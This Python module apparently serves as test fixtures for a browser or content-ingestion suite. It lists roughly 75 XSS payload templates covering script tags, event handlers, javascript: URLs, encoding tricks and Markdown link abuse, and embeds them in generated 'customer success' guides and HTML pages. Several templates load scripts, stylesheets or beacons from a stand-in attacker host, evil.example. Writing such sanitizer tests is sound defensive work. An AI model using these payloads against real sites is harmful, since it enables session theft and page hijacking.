"""XSS payloads for the browser suite, each tagged with an id made of letters only.

``{js}`` sets ``window.__xss_<id>`` and ``{id}`` names the vector in a URL; the answer check
removes sentences with figures that no passage holds, so neither carries a digit. A vector
counts as delivered on a channel when its id reaches what the page renders.
"""

from __future__ import annotations

import html
import string

TEMPLATES = [
    # raw HTML: tags, handlers, URL attributes
    "<script>{js}</script>",
    '<script src="https://evil.example/{id}.js"></script>',
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<body onload={js}>",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<a href="javascript:{js}">click</a>',
    '<a href="JaVaScRiPt:{js}">click</a>',
    '<a href=" javascript:{js}">click</a>',
    '<form action="javascript:{js}"><button>go</button></form>',
    '<button formaction="javascript:{js}">go</button>',
    "<input onfocus={js} autofocus>",
    "<select onfocus={js} autofocus></select>",
    "<textarea onfocus={js} autofocus></textarea>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    '<div style="background:url(javascript:{js})">x</div>',
    "<style>@import 'https://evil.example/{id}.css';</style>",
    '<link rel=stylesheet href="https://evil.example/{id}.css">',
    '<meta http-equiv="refresh" content="now;url=javascript:{js}">',
    '<base href="https://evil.example/{id}/">',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    '<img src=x onerror="&#x77;indow.__xss_{id}=true">',
    '<a href="&#x6A;avascript:{js}">x</a>',
    '<a href="jav&#x09;ascript:{js}">x</a>',
    "<scr<script>ipt>{js}</script>",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    '<!--<img src="--><img src=x onerror={js}//">',
    "<![CDATA[<script>{js}</script>]]>",
    "<img src=`x` onerror={js}>",
    "<img/src/onerror={js}>",
    "<svg/onload={js}>",
    "<iframe src=data:text/html,<script>{js}</script>>",
    '<a href="data:text/html,<script>{js}</script>">x</a>',
    "<template><script>{js}</script></template>",
    "<x onclick={js}>click</x>",
    "<img src=x onerror\x0c={js}>",
    '<a href="java\nscript:{js}">x</a>',
    # Markdown
    "[click](javascript:{js})",
    "[click](JAVASCRIPT:{js})",
    "[click](vbscript:{js})",
    "[click](data:text/html,<script>{js}</script>)",
    "![beacon](https://evil.example/{id}.png)",
    "![x](javascript:{js})",
    "[![x](https://evil.example/{id}.png)](javascript:{js})",
    "<javascript:{js}>",
    "[mail me](mailto:victim@evil.example?body={id})",
    "[protocol-relative](//evil.example/{id})",
    "[plain http](http://evil.example/{id})",
    "[reference][ref{id}]\n\n[ref{id}]: javascript:{js}",
    '[x](https://evil.example/{id} "onmouseover={js}")',
    "`<script>{js}</script>`",
    "```\n<script>{js}</script>\n```",
    '<https://evil.example/{id}" onmouseover="{js}>',
    '[x](https://ok.example/{id}"onmouseover="{js})',
    "**<img src=x onerror={js}>**",
    "> <svg onload={js}>",
    "| a | <img src=x onerror={js}> |\n|---|---|\n| b | c |",
    "[x]( javascript:{js})",
    "[bank](https://bank.example@evil.example/{id})",
    "<a href=x onmouseover={js}>hover me</a>",
    "[x](java\x00script:{js})",
]


def _ident(i: int) -> str:
    letters = string.ascii_lowercase
    return letters[i // 26] + letters[i % 26]


VECTORS: list[tuple[str, str]] = [
    (_ident(i), t.format(id=_ident(i), js=f"window.__xss_{_ident(i)}=true"))
    for i, t in enumerate(TEMPLATES)
]
TOPICS = [
    "onboarding", "renewals", "adoption", "churn", "expansion", "escalations", "health",
    "playbooks", "reviews", "stakeholders", "forecasting", "advocacy", "retention",
    "segmentation", "tooling",
]  # fmt: skip
PER_SECTION = 5


def sections() -> list[tuple[str, list[tuple[str, str]]]]:
    """The vectors in groups of PER_SECTION, one group per topic."""
    groups = [VECTORS[i : i + PER_SECTION] for i in range(0, len(VECTORS), PER_SECTION)]
    assert len(groups) <= len(TOPICS)
    return list(zip(TOPICS, groups, strict=False))


def hostile_markdown_guide() -> str:
    lines = [
        "---",
        "id: xss-guide",
        "role: customer-success-manager",
        "role_title: Customer Success Manager",
        f'title: "XSS guide {VECTORS[0][1]}"',
        'source: "<img src=x onerror=window.__xss_src=true> survey"',
        'source_url: "javascript:window.__xss_url=true"',
        'as_of: "2026-06"',
        "---",
        "",
        "# XSS guide",
        "",
    ]
    for topic, group in sections():
        lines += [f"## {topic.title()} <svg onload=window.__xss_h{topic[:3]}=true>", ""]
        for _, vector in group:
            lines += [
                f"A Customer Success Manager handles {topic} for each account. {vector}",
                "",
            ]
    return "\n".join(lines)


def hostile_html_page() -> str:
    """Escaped vectors (they decode to raw text in the passage), then the raw ones, last:
    an unclosed raw ``<svg>`` hides the rest of the page from the ingester."""
    body = []
    for topic, group in sections():
        body.append(f"<h2>{topic.title()} handbook</h2>")
        for _, vector in group:
            body.append(
                f"<p>A Customer Support Manager owns {topic} queues. {html.escape(vector)}</p>"
            )
    body.append("<h2>Raw markup</h2>")
    body += [f"<p>Raw {vid}: {vector}</p>" for vid, vector in VECTORS]
    return (
        "<!doctype html><html><head><title>Support handbook "
        "&lt;script&gt;window.__xss_title=true&lt;/script&gt;</title>"
        "<script>window.__xss_head=true</script></head><body>" + "".join(body) + "</body></html>"
    )
